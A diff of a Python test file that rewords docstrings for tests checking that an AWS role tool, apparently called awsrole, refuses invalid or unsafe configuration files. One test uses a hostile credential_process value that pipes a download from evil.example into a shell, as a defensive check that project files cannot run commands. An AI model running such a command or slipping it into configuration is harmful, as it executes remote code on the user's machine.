@@ -1,4 +1,4 @@
-"""Files that say what can't be."""
+"""Tests the messages about invalid files."""
 
 
 from failure_world import ALICE, file
@@ -14,27 +14,27 @@ def refused(world, says, content):
 
 
 def test_spelling(world, says):
-    """A key is misspelt."""
+    """A key is misspelled."""
     refused(world, says, file("Plain") + 'regoin = "eu-west-1"\n')
 
 
 def test_not_toml(world, says):
-    """Somebody wrote YAML."""
+    """The file contains YAML."""
     refused(world, says, "role_arn: arn:aws:iam::222222222222:role/Plain\n")
 
 
 def test_account_without_quotes(world, says):
-    """An account id is a number in TOML, and would lose its zeros."""
+    """An account ID without quotes is a number in TOML, which would lose its leading zeros."""
     refused(world, says, file("Plain") + "account_id = 012345678901\n")
 
 
 def test_command_in_a_projects_file(world, says):
-    """A project's file would run a command."""
+    """A project file contains a command."""
     refused(world, says, file("Plain") + 'credential_process = "curl evil.example | sh"\n')
 
 
 def test_secret_in_a_projects_file(world, says):
-    """A secret key stands in the project's file."""
+    """A project file contains a secret key."""
     refused(world, says, file("Plain") + 'aws_secret_access_key = "x"\n')
 
 
@@ -49,92 +49,92 @@ def test_arn_of_a_session(world, says):
 
 
 def test_no_source(world, says):
-    """Nothing says whose credentials assume the role."""
+    """The file doesn't set the credentials that assume the role."""
     refused(world, says, 'role_arn = "arn:aws:iam::222222222222:role/Plain"\n')
 
 
 def test_no_such_profile(world, says):
-    """A profile is misspelt."""
+    """The profile's name is misspelled."""
     refused(world, says, file("Plain", source="alcie"))
 
 
 def test_no_such_profile_at_all(world, says):
-    """A profile that is nowhere near those that are there."""
+    """The profile doesn't exist, and no existing name is similar."""
     refused(world, says, file("Plain", source="production-eu"))
 
 
 def test_profile_that_includes_another(world, says):
-    """A profile is written for aws-vault."""
+    """A profile uses a setting of aws-vault."""
     world.config(more="[profile common]\nsource_profile = alice\n"
                       "[profile shop]\ninclude_profile = common\nrole_arn = arn:aws:iam::222222222222:role/Plain\n")
     refused(world, says, 'profile = "shop"\n')
 
 
 def test_profile_without_credentials(world, says):
-    """A profile has nothing but a region."""
+    """A profile has only a region."""
     world.config(more="[profile empty]\nregion = us-east-1\n")
     refused(world, says, file("Plain", source="empty"))
 
 
 def test_profile_with_half_a_key(world, says):
-    """A profile lost its secret key."""
+    """A profile has an access key ID but no secret."""
     world.write(".aws/credentials", f"[alice]\naws_access_key_id = {ALICE['access_key_id']}\n")
     refused(world, says, file("Plain"))
 
 
 def test_profiles_in_a_circle(world, says):
-    """Two profiles are each other's source."""
+    """Two profiles are the source of each other."""
     one = "[profile {0}]\nrole_arn = arn:aws:iam::222222222222:role/Plain\nsource_profile = {1}\n"
     world.config(more=one.format("a", "b") + one.format("b", "a"))
     refused(world, says, file("Plain", source="a"))
 
 
 def test_no_such_sso_session(world, says):
-    """A profile names an sso-session that isn't there."""
+    """A profile refers to an sso-session that doesn't exist."""
     world.config(more="[profile x]\nsso_session = crop\nsso_account_id = 111111111111\nsso_role_name = Admin\n")
     refused(world, says, file("Plain", source="x"))
 
 
 def test_aws_file_is_broken(world, says):
-    """~/.aws/config isn't what the AWS CLI reads either."""
+    """~/.aws/config is invalid, also for the AWS CLI."""
     world.config(more="[profile x\nregion = eu-west-1\n")
     refused(world, says, file("Plain"))
 
 
 def test_aws_file_is_not_there(world, says):
-    """There is no ~/.aws at all: the AWS CLI was never set up."""
+    """There is no ~/.aws: the AWS CLI was never set up."""
     for name in ("config", "credentials"):
         (world.home / ".aws" / name).unlink()
     refused(world, says, file("Plain"))
 
 
 def test_duration_is_out_of_range(world, says):
-    """No role lasts a day."""
+    """The duration exceeds the maximum of STS."""
     refused(world, says, file("Plain", duration_seconds=86400))
 
 
 def test_external_id_with_a_space(world, says):
-    """STS takes no spaces in an external ID."""
+    """The external ID contains a space, which STS rejects."""
     refused(world, says, file("Plain", external_id="shop 42"))
 
 
 def test_region_in_words(world, says):
-    """A region as the console shows it."""
+    """The region is the name in the console."""
     refused(world, says, file("Plain", region="Europe (Ireland)"))
 
 
 def test_pin_of_another_account(world, says):
-    """The pin says another account than the role's."""
+    """The account pin differs from the role's account."""
     refused(world, says, file("Plain", account_id="333333333333"))
 
 
 def test_no_default_role(world, says):
-    """The file has several roles, and none is the default."""
+    """The file has several roles but no default role."""
     refused(world, says, f'[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')
 
 
 def test_no_such_role(world, says):
-    """A role is asked for that the file doesn't have."""
+    """The requested role isn't in the file."""
     world.shop(f'default_role = "dev"\n[role.dev]\n{file("Plain")}[role.prod]\n{file("Deploy")}')
     says("exec --role prdo -- true")
 
@@ -145,32 +145,32 @@ def test_empty_file(world, says):
 
 
 def test_two_sources(world, says):
-    """Two sources at once."""
+    """The file sets two sources."""
     refused(world, says, file("Plain") + 'credential_source = "Environment"\n')
 
 
 def test_own_config_is_broken(world, says):
-    """The person's own config.toml has a key that isn't one."""
+    """The user's config.toml has an unknown key."""
     world.shop(file("Plain"))
     world.write(".config/awsrole/config.toml", 'mfa_porcess = "x"\n')
     says()
 
 
 def test_colour_is_none(world, says):
-    """An account's colour in the person's own config.toml is misspelled."""
+    """An account's color in config.toml is misspelled."""
     world.shop(file("Plain"))
     world.write(".config/awsrole/config.toml", '[accounts.222222222222]\nname = "shop-prod"\ncolor = "rde"\n')
     says()
 
 
 def test_endpoint_is_no_url(world, says):
-    """An endpoint that is no address."""
+    """The endpoint isn't a URL."""
     world.shop(file("Plain"))
     says(env={"AWS_ENDPOINT_URL": "sts.local"})
 
 
 def test_link_to_nowhere(world, says):
-    """.awsrole.toml is a link to a file that is gone."""
+    """.awsrole.toml is a dangling symlink."""
     (world.project("shop") / ".awsrole.toml").symlink_to("nowhere")
     says()
 
@@ -187,7 +187,7 @@ def test_file_is_no_text(world, says):
 
 
 def test_file_is_huge(world, says):
-    """.awsrole.toml is something else."""
+    """.awsrole.toml is a large file of another program."""
     world.project("shop", "#" * (1 << 20))
     result = world.awsrole("allow", cwd=world.home / "src/shop")
     says.compare("$ awsrole allow", result.err, result.code, world.home)
